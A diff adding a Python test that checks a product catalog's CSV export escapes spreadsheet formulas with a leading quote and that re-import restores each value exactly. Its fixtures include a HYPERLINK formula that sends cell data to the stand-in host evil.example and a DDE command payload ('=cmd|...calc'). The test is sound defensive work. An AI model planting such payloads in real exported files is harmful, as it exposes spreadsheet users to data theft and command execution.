@@ -172,6 +172,59 @@ def test_export_holds_every_column_as_the_import_reads_it(catalog):
     assert (rows[1]["on_hand"], rows[1]["attributes"], rows[3]["category"]) == ("0", "", "")
 
 
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=1+1",  # really starts with a quote before '='
+    "''+1",
+    "'",
+    "'plain",
+    " leading space",
+    "trailing space ",
+]
+
+
+def test_export_neutralises_formulas_and_import_gives_each_value_back(
+    tree, make_product, system_actor, tmp_path
+):
+    """A name a spreadsheet would run leaves with a quote before it; the import takes off
+    exactly that quote, so the round trip is exact even for values that start with quotes."""
+    sheet = category_create(actor=system_actor, name="=cmd|'-C calc'!A0")
+    for number, value in enumerate(FORMULAS):
+        make_product(
+            sku=f"F-{number}",
+            name=value,
+            description=value,
+            slug=f"-f{number}",
+            category=sheet if number == 0 else tree["home"],
+        )
+    path = str(tmp_path / "catalog.csv")
+    run("export_products", path)
+    content = Path(path).read_bytes()
+    cells = [cell for line in csv.reader(io.StringIO(content.decode())) for cell in line]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    rows = list(csv.DictReader(io.StringIO(content.decode())))
+    assert rows[0]["name"] == "'" + FORMULAS[0]
+    assert rows[0]["category"] == "'=cmd|'-C calc'!A0"
+    assert [r["name"] for r in rows][6:10] == ["''=1+1", "'''+1", "'", "'plain"]
+    assert rows[0]["slug"] == "'-f0"
+    assert exported() == content  # the admin's export writes the same file
+    before, state = counts(), catalog_state()
+
+    out, _ = run("import_products", path)
+
+    assert f"{len(FORMULAS)} unchanged" in out
+    assert (counts(), catalog_state()) == (before, state)
+    Product.objects.update(name="changed", description="changed")
+    run("import_products", path)
+    stored = Product.objects.order_by("pk").values_list("name", "description")
+    assert list(stored) == [(value, value) for value in FORMULAS]
+
+
 # --- what an import does ------------------------------------------------------------------
 
 
